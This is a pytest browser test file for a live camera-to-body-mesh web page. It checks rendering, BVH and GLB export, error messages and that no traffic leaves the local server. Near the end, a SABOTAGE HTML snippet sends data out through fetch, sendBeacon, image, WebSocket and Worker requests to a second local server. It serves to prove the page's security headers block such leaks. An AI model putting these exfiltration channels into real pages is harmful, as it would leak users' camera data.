"""The live page in a real browser: a rendered person as its camera, and everything it asks for."""

import io
import json
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import pytest
from chromium import ALLOWED, DENIED, browsing, need_chromium, read_traffic, state, wait_for
from PIL import Image
from walking import READ_NUMBER, Walking, walking

from pchmr.body import BodyModel
from pchmr.cli import main
from pchmr.config import LiveConfig
from pchmr.device import local_server
from pchmr.device.bundles import PagesError, page_files
from pchmr.device.live import SCRIPTS, contents
from pchmr.device.local_server import Content, LocalServer, Site
from pchmr.perception.fetched import state as state_of

pytestmark = pytest.mark.browser
SECONDS = 1.6
READY = "window.pchmr?.state.status === 'ready' || window.pchmr?.state.status === 'failed'"
LARGEST_SHARE = 0.04  # of the person's size


def files_of(config: LiveConfig) -> dict[str, Content]:
    need_chromium()
    try:
        files = page_files("live", SCRIPTS)
    except PagesError as error:
        pytest.skip(str(error))
    return {**files, **contents(config)}


@contextmanager
def serving(files: dict[str, Content]) -> Iterator[LocalServer]:
    server = LocalServer(Site.of_table(files))
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def clip(body: BodyModel) -> Walking:
    need_chromium()
    return walking(body, seconds=SECONDS)


def camera_flags(clip: Walking, folder: Path) -> tuple[str, str]:
    file = clip.write_mjpeg(folder / "camera.mjpeg")
    return ALLOWED, f"--use-file-for-fake-video-capture={file}"


def test_a_camera_becomes_meshes_and_nothing_is_asked_for(clip: Walking, tmp_path: Path) -> None:
    with serving(files_of(LiveConfig())) as server:
        with browsing(tmp_path, *camera_flags(clip, tmp_path)) as page:
            page.goto(server.address)
            wait_for(page, READY)
            assert state(page)["status"] == "ready"
            assert state(page)["provider"] == "wasm" and len(state(page)["timings"]) >= 2
            assert page.evaluate("crossOriginIsolated")
            assert page.evaluate("typeof RTCPeerConnection") == "undefined"
            asked = len(server.site.log)
            page.keyboard.press("c")
            wait_for(page, "window.pchmr.state.meshes >= 5")
            saved = {kind: recorded(page, kind, tmp_path) for kind in ("bvh", "glb")}
            photo = tmp_path / "photo.jpg"
            photo.write_bytes(clip.frames[0])
            page.set_input_files("#file", photo)
            done = state(page)["frames"]
            wait_for(page, f"window.pchmr.state.frames > {done + 1}")
            page.screenshot(path=tmp_path / "live.png")
            assert page.inner_text("#hash") and page.inner_text("#fps") != "–"
            assert len(server.site.log) == asked
        assert all(line.startswith("GET ") and line.endswith(" 200") for line in server.site.log)
        traffic = read_traffic(tmp_path / "net.json")
        assert len(traffic.requests) > 5
        assert not traffic.beyond(server.origins[0]) and not traffic.far_sockets
    check_bvh(saved["bvh"])
    check_glb(saved["glb"])


def recorded(page, kind: str, folder: Path) -> Path:  # type: ignore[no-untyped-def]
    page.select_option("#format", kind)
    page.click("#record")
    done = state(page)["meshes"]
    wait_for(page, f"window.pchmr.state.meshes > {done + 2}")
    with page.expect_download() as download:
        page.click("#record")
    download.value.save_as(folder / f"recording.{kind}")
    return folder / f"recording.{kind}"


def check_bvh(path: Path) -> None:
    import bvhio

    root = bvhio.readAsBvh(str(path))
    assert root.FrameCount >= 1
    assert len(root.Root.layout()) == 24


def check_glb(path: Path) -> None:
    data = path.read_bytes()
    magic, version, size = struct.unpack("<III", data[:12])
    length, kind = struct.unpack("<II", data[12:20])
    document = json.loads(data[20 : 20 + length])
    assert (magic, version, size, kind) == (0x46546C67, 2, len(data), 0x4E4F534A)
    assert len(document["skins"][0]["joints"]) == 24
    assert len(document["animations"][0]["channels"]) == 25
    assert document["buffers"][0]["byteLength"] == size - 28 - length


@pytest.mark.priors
def test_the_mesh_is_on_the_person(clip: Walking, tmp_path: Path, body: BodyModel) -> None:
    if state_of("blazepose") != "ok":
        pytest.skip("needs `pchmr priors get blazepose`")
    rows = np.arange(0, body.num_vertices, 16)
    collected: dict[int, list[float]] = {}
    with (
        serving(files_of(LiveConfig())) as server,
        browsing(tmp_path, *camera_flags(clip, tmp_path)) as page,
    ):
        page.goto(server.address)
        wait_for(page, READY)
        page.keyboard.press("c")
        for _ in range(400):
            found = page.evaluate(READ_MESH, rows.tolist())
            if found is not None:
                number, pixels = found
                collected.setdefault(number, []).append(error_of(clip, number, rows, pixels))
            if len(collected) >= 12:
                break
            page.wait_for_timeout(150)
        page.screenshot(path=tmp_path / "mesh.png")
    errors = [float(np.median(values)) for values in collected.values()]
    print(f"median {100 * np.median(errors):.2f} % of size over {len(errors)} frames")
    assert len(errors) >= 8 and np.median(errors) <= LARGEST_SHARE


READ_MESH = f"""(rows) => {{
  const last = window.pchmr.state.last;
  if (!last) return null;
  const {{focal, cx, cy}} = last.camera, v = last.vertices;
  return [{READ_NUMBER}, rows.map((row) => [
    focal * v[3 * row] / v[3 * row + 2] + cx, focal * v[3 * row + 1] / v[3 * row + 2] + cy])];
}}"""


def error_of(clip: Walking, number: int, rows: np.ndarray, pixels: list) -> float:
    """Mean distance of vertices from where they are, as a share of the person's size."""
    truth = clip.pixels[number]
    size = (truth.max(axis=0) - truth.min(axis=0)).max()
    return float(np.linalg.norm(np.array(pixels) - truth[rows], axis=-1).mean() / size)


@pytest.mark.parametrize("flags", [(DENIED,)])
def test_a_camera_that_is_not_allowed_is_told(tmp_path: Path, flags: tuple[str, ...]) -> None:
    with serving(files_of(LiveConfig())) as server, browsing(tmp_path, *flags) as page:
        page.goto(server.address)
        wait_for(page, READY)
        page.keyboard.press("c")
        wait_for(page, "window.pchmr.state.status === 'no-source'")
        assert "not allowed" in page.inner_text("#status")
        (tmp_path / "no.mp4").write_bytes(b"no video")
        page.set_input_files("#file", tmp_path / "no.mp4")
        wait_for(page, "window.pchmr.state.words.includes('no.mp4')")
        blank = io.BytesIO()
        Image.new("RGB", (320, 240), (90, 90, 90)).save(blank, "PNG")
        (tmp_path / "blank.png").write_bytes(blank.getvalue())
        page.set_input_files("#file", tmp_path / "blank.png")
        wait_for(page, "window.pchmr.state.frames >= 1")


def test_an_export_of_another_version_is_told_on_the_page(tmp_path: Path) -> None:
    export = tmp_path / "export"
    export.mkdir()
    card = {"default": "fp32", "outputs": ["mesh"], "variants": {"fp32": {}}}
    (export / "card.json").write_text(json.dumps(card))
    with (
        serving(files_of(LiveConfig(export=export))) as server,
        browsing(tmp_path) as page,
    ):
        page.goto(server.address)
        wait_for(page, READY)
        assert "another version" in page.inner_text("#status")
        assert "pchmr export" in page.inner_text("#status")


def test_a_second_launch_on_the_port_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    with serving(files_of(LiveConfig())) as server:
        capsys.readouterr()
        assert main(["live", "--port", str(server.server_port)]) == 2
    said = capsys.readouterr().err
    assert said.count("\n") == 1 and "give another --port" in said


SABOTAGE = b"""<!doctype html><title>sabotage</title><script>
const far = `http://127.0.0.1:${location.hash.slice(1)}`, pixels = "pixels=1";
fetch(`${far}/get?${pixels}`, {mode: "no-cors"}).catch(() => 0);
fetch("own", {method: "POST", body: pixels}).catch(() => 0);
navigator.sendBeacon("beacon", pixels);
new Image().src = `${far}/image`;
try { new WebSocket(far.replace("http", "ws") + "/socket"); } catch {}
const work = new Blob([`fetch("${far}/worker", {mode: "no-cors"}).catch(() => 0)`]);
new Worker(URL.createObjectURL(work));
</script>"""


def test_a_page_that_sends_pictures_away_would_be_seen(tmp_path: Path) -> None:
    """The witness of the tests above: without our policy, every way out stands in the log."""
    need_chromium()

    with serving({"": Content(SABOTAGE, "html")}) as server, serving({}) as far:
        kept = dict(local_server.HEADERS)
        local_server.HEADERS.clear()
        try:
            with browsing(tmp_path) as page:
                page.goto(f"{server.address}#{far.server_port}")
                page.wait_for_timeout(4000)
        finally:
            local_server.HEADERS.update(kept)
        beyond = read_traffic(tmp_path / "net.json").beyond(server.origins[0])
    ways = ("get", "own", "beacon", "image", "socket", "worker")
    assert not [way for way in ways if not any(f"/{way}" in url for _, url, _ in beyond)]


def test_the_policy_stops_what_the_sabotaged_page_does(tmp_path: Path) -> None:
    """The same page under our headers: no inline script runs, so nothing is asked for."""
    need_chromium()
    with serving({"": Content(SABOTAGE, "html")}) as server, serving({}) as far:
        with browsing(tmp_path) as page:
            page.goto(f"{server.address}#{far.server_port}")
            page.wait_for_timeout(3000)
        assert not read_traffic(tmp_path / "net.json").beyond(server.origins[0])
        assert not far.site.log
